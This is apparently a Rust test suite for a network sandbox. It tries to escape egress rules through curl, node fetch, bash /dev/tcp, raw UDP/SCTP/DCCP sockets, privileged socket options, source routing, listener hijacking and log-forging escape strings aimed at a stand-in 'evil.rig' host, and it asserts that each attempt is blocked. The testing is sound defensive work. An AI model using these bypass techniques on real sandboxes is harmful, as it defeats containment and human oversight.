//! H: not taking part. Clients that ignore every convention still have no way but ours.

use super::client::{assert_answer, attack};
use crate::support::world::{OPAQUE, World};

/// H80: raw sockets and clients that ignore proxy variables.
#[test]
fn h80_ignoring_conventions() {
    World::each(|world| {
        let run = world.run().allow("allowed.rig");
        let outcome = run.bash(&format!(
            "
quiet=\"--silent --noproxy * --max-time 30\"
set -f
curl $quiet --insecure --connect-to evil.rig:443:{evil}:443 https://evil.rig/; echo curl: $?
curl $quiet http://{evil}/; echo address: $?
node -e \"fetch('http://evil.rig/').then(r => console.log('node: ' + r.status), e => console.log('node: refused'))\"
openssl s_client -connect {evil}:443 -servername evil.rig < /dev/null 2>&1 | grep -c \"rig's root\"
exec 3<> /dev/tcp/{evil}/9999 && echo opaque >&3 && read -t 20 -r line <&3; echo bash: $?",
            evil = world.evil.address
        ));
        // An explained denial is an answer with a body; what may not come is the origin's.
        assert!(!outcome.stdout.contains("\"method\"") && !outcome.stdout.contains("bash: 0"), "{outcome:#?}");
        outcome.assert_denied("no-rule", &[("name", "evil.rig")]);
        world.evil.assert_untouched();
    });
}

/// H81: any other transport, any other port.
#[test]
fn h81_other_transports() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "
def datagram(address, port, protocol=0):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(1 if protocol else 20)
        s.connect((address, port))
        s.send(b'data')
        s.recv(1)
for port in (80, 123, 500, 3478, 9999):
    attempt(f'udp {port}', lambda: datagram(EVIL, port))
attempt('sctp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((EVIL, 80)))
attempt('dccp', lambda: socket.socket(socket.AF_INET, 6, 33).connect((EVIL, 80)))
attempt('udp-lite', lambda: datagram(EVIL, 80, 136))
attempt('mptcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect((EVIL, 9999)))
def fast_open():
    s = socket.socket()
    s.sendto(request('evil.rig'), 0x20000000, (EVIL, 80))
    return first_line(drain(s))
attempt('fast open', fast_open)
",
        );
        for port in [80, 123, 500, 3478, 9999] {
            assert_answer(&outcome, &format!("udp {port}"), &["refused", "EHOSTUNREACH", "ENETUNREACH", "EPERM"]);
        }
        // It is the sandbox's own, like every address: nobody is there, and nobody says so.
        assert_answer(&outcome, "udp-lite", &["timeout", "refused", "EPROTONOSUPPORT"]);
        assert_answer(&outcome, "fast open", &["HTTP/1.1 403", "refused", "EOPNOTSUPP"]);
        world.evil.assert_untouched();
    });
}

/// H82, from within one socket: marks, transparency, devices, source routes, foreign sources, other priorities. What
/// takes power over the namespace is refused; what does not, changes nothing.
#[test]
fn h82_socket_options_past_the_rules() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "
SO_MARK, SO_BINDTODEVICE, IP_TRANSPARENT, IPV6_TRANSPARENT, SO_DONTROUTE = 36, 25, 19, 75, 5
IP_FREEBIND, IP_OPTIONS, IP_TOS = 15, 4, 1
ours = struct.pack('=I', 0x65786561)

def with_option(level, option, value, bind=None):
    s = socket.socket()
    s.settimeout(30)
    s.setsockopt(level, option, value)
    if bind:
        s.bind(bind)
    s.connect((EVIL, 80))
    s.sendall(request('evil.rig'))
    return first_line(drain(s))

attempt('mark', lambda: with_option(socket.SOL_SOCKET, SO_MARK, ours))
attempt('transparent', lambda: with_option(socket.IPPROTO_IP, IP_TRANSPARENT, 1))
attempt('transparent6', lambda: socket.socket(socket.AF_INET6).setsockopt(41, IPV6_TRANSPARENT, 1))
attempt('device', lambda: with_option(socket.SOL_SOCKET, SO_BINDTODEVICE, b'lo'))
attempt('route', lambda: with_option(socket.SOL_SOCKET, SO_DONTROUTE, 1))
attempt('priority', lambda: with_option(socket.IPPROTO_IP, IP_TOS, 0xb8))
attempt('source', lambda: with_option(socket.IPPROTO_IP, IP_FREEBIND, 1, (ALLOWED, 0)))
hop, final = socket.inet_aton(ALLOWED), socket.inet_aton(EVIL)
attempt('source route', lambda: with_option(socket.IPPROTO_IP, IP_OPTIONS, b'\\x83\\x0b\\x04' + hop + final + b'\\x00'))
",
        );
        for power in ["mark", "transparent", "transparent6"] {
            assert_answer(&outcome, power, &["EPERM"]);
        }
        for harmless in ["device", "route", "priority", "source", "source route"] {
            assert_answer(&outcome, harmless, &["HTTP/1.1 403", "refused", "E", "timeout"]);
        }
        assert_answer(&outcome, "device", &["HTTP/1.1 403"]);
        world.evil.assert_untouched();
    });
}

/// A sandbox that serves on every address cannot take the place of our listener, or of our resolver.
#[test]
fn h82_listening_in_our_place() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "
def listen(address, port, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        s.setsockopt(socket.SOL_SOCKET, option, 1)
    s.bind((address, port))
    if kind == socket.SOCK_STREAM:
        s.listen()
    kept.append(s)
    return 'listens'
kept = []
for address in ('0.0.0.0', '198.18.0.1', EVIL, '::', EVIL6):
    attempt(f'ours {address}', lambda: listen(address, 65533))
    attempt(f'resolver {address}', lambda: listen(address, 53, socket.SOCK_DGRAM))
attempt('own port', lambda: listen('0.0.0.0', 8080))
tcp('through own port', EVIL, 8080, request('evil.rig'))
attempt('resolver still', lambda: ask('allowed.rig', server=EVIL)[0])
",
        );
        for address in ["0.0.0.0", "198.18.0.1", &world.evil.address.to_string(), "::"] {
            assert_answer(&outcome, &format!("ours {address}"), &["EADDRINUSE", "EACCES", "EADDRNOTAVAIL"]);
            assert_answer(&outcome, &format!("resolver {address}"), &["EADDRINUSE", "EACCES", "EADDRNOTAVAIL"]);
        }
        assert_answer(&outcome, "through own port", &["HTTP/1.1 403"]);
        assert_answer(&outcome, "resolver still", &["0"]);
        world.evil.assert_untouched();
    });
}

/// What the sandbox names cannot forge a line of the record, or move the user's cursor.
#[test]
fn hostile_names_stay_text_in_the_record() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            r#"
escape = '\x1b[2J'
forged = '\n{"event":"verdict","verdict":"allow","name":"forged.rig"}\n'
for what in (escape, forged, '\r\x9b1m', '"', '\\'):
    attempt('dns', lambda: ask(what + '.evil.rig')[0])
    tcp('path', EVIL, 80, request('allowed.rig', '/' + what))
    tcp('host', EVIL, 80, request(what + '.evil.rig'))
    tcp('method', EVIL, 80, request('allowed.rig', method='GET' + what))
    greet('sni', EVIL, 443, records(hello((what + '.rig').encode('latin-1'))))
"#,
        );
        assert!(!outcome.records().iter().any(|record| record["name"] == "forged.rig"), "{outcome:#?}");
        for text in [&outcome.stderr, &outcome.audit] {
            let control = |c: char| c.is_control() && c != '\n';
            assert!(!text.contains(control), "a control character in {text:?}");
        }
        world.evil.assert_untouched();
    });
}

/// H83: loopback inside is the sandbox's own, and so is what the sandbox itself serves there.
#[test]
fn h83_loopback_is_the_sandboxs_own() {
    World::each(|world| {
        let host = match world.wide {
            Some(_) => "80".to_owned(),
            None => world.evil.http.address.port().to_string(),
        };
        let outcome = attack(
            world,
            world.run().options(["--mode", "allow-all"]),
            &format!(
                "tcp('host', '127.0.0.1', {host}, request('evil.rig'))
own = socket.create_server(('127.0.0.1', 0))
own.settimeout(20)
client = socket.create_connection(own.getsockname())
served, _ = own.accept()
served.sendall(b'own')
print('own:', client.recv(3).decode())"
            ),
        );
        assert_answer(&outcome, "host", &["refused", "ECONNREFUSED"]);
        assert_answer(&outcome, "own", &["own"]);
        world.evil.assert_untouched();
        if let Some(wide) = &world.wide {
            wide.host.assert_untouched();
        }
    });
}

/// What a CIDR opens is relayed as it is, and only that: the positive side of the tests above.
#[test]
fn an_allowed_cidr_is_relayed_whatever_is_spoken() {
    World::each_wide(|world| {
        let run = world.run().options(["--allow-cidr", &format!("{OPAQUE}/32")]);
        let outcome = attack(
            world,
            run,
            &format!(
                "def chat():
    with dial('{OPAQUE}', 5432) as s:
        hello = drain_exactly(s, 6)
        s.sendall(b'\\x00\\xffecho')
        return hello + drain_exactly(s, 6)
attempt('chat', chat)
tcp('other', EVIL, 5432, b'\\x00opaque')"
            ),
        );
        assert_answer(&outcome, "chat", &["b'hello\\n\\x00\\xffecho'"]);
        assert_answer(&outcome, "other", &["refused"]);
        outcome.assert_allowed(&[("route", "relay"), ("address", OPAQUE)]);
    });
}
